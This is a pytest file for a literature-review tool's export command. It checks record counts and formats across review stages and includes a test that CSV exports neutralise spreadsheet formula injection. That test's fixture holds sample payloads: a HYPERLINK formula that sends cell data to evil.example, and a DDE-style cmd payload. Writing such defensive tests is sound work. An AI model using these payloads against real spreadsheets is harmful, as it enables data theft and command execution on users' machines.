"""`slr export --stage ... --format ris|bibtex|csv|asreview`, and CSV cells that would run as
spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from slr.cli import main
from slr.export import safe_cell
from slr.importing import import_files
from slr.store import Review

REPO = Path(__file__).resolve().parent.parent
PROTOCOL = REPO / "protocols" / "msme-digital-drivers.toml"
EXPORTS = REPO / "corpus" / "exports"


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.output


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_asreview_csv_of_the_included_and_of_every_unique_record(demo: Path) -> None:
    # nothing is included at full text yet: the 7 records the rules included at title/abstract
    # are the full-text stage
    code, output = run("export", "--review", str(demo), "--stage", "included", "--format", "csv")
    assert (code, len(rows(output))) == (0, 1)
    code, output = run(
        "export", "--review", str(demo), "--stage", "full_text", "--format", "asreview"
    )
    table = rows(output)
    assert code == 0
    assert table[0] == [
        "record_id", "title", "abstract", "authors", "keywords", "year", "doi", "url",
        "label_included",
    ]  # fmt: skip
    assert len(table) == 1 + 7 and {row[-1] for row in table[1:]} == {"1"}
    assert table[1][:2] == [
        "3",
        "Integrating E-Commerce, Influencers, UGC, and Personal Shoppers to Drive Asian MSME "
        "Internationalization",
    ]
    code, output = run("export", "--review", str(demo), "--stage", "unique", "--format", "asreview")
    labels = [row[-1] for row in rows(output)[1:]]
    assert (len(labels), labels.count("1"), labels.count("0"), labels.count("")) == (124, 7, 27, 90)


@pytest.mark.parametrize(
    ("fmt", "marker", "count"),
    [("ris", "TY  - ", 7), ("bibtex", "@article{", 7), ("csv", "\n", 8)],
)
def test_full_text_stage_in_every_format(demo: Path, fmt: str, marker: str, count: int) -> None:
    code, output = run("export", "--review", str(demo), "--stage", "full_text", "--format", fmt)
    assert code == 0
    assert output.count(marker) == count


def test_every_record_is_still_the_default(demo: Path, tmp_path: Path) -> None:
    out = tmp_path / "all.csv"
    code, output = run("export", "--review", str(demo), "--format", "csv", "--out", str(out))
    assert (code, output) == (0, f"Wrote 254 records to {out}\n")
    assert len(rows(out.read_text(encoding="utf-8"))) == 255


def test_formula_cells_are_neutralised(tmp_path: Path) -> None:
    export = tmp_path / "evil.ris"
    export.write_text(
        "TY  - JOUR\n"
        'TI  - =HYPERLINK("http://evil.example/?"&A1,"Click")\n'
        "AU  - @Rivera, Ana\n"
        "PY  - 2021\n"
        "KW  - +cmd|' /C calc'!A0\n"
        "SP  - -12\n"
        "AB  - A plain abstract - with = inside is left alone.\n"
        "ER  - \n",
        encoding="utf-8",
    )
    review = tmp_path / "review"
    with Review.create(review) as opened:
        import_files(opened, [export])
    for fmt in ("csv", "asreview"):
        code, output = run("export", "--review", str(review), "--format", fmt)
        assert code == 0
        cells = [cell for row in rows(output)[1:] for cell in row]
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
        assert "'@Rivera, Ana" in cells
        assert "'+cmd|' /C calc'!A0" in cells
        assert "A plain abstract - with = inside is left alone." in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert (safe_cell("-12"), safe_cell(-12), safe_cell("12-14")) == ("'-12", -12, "12-14")
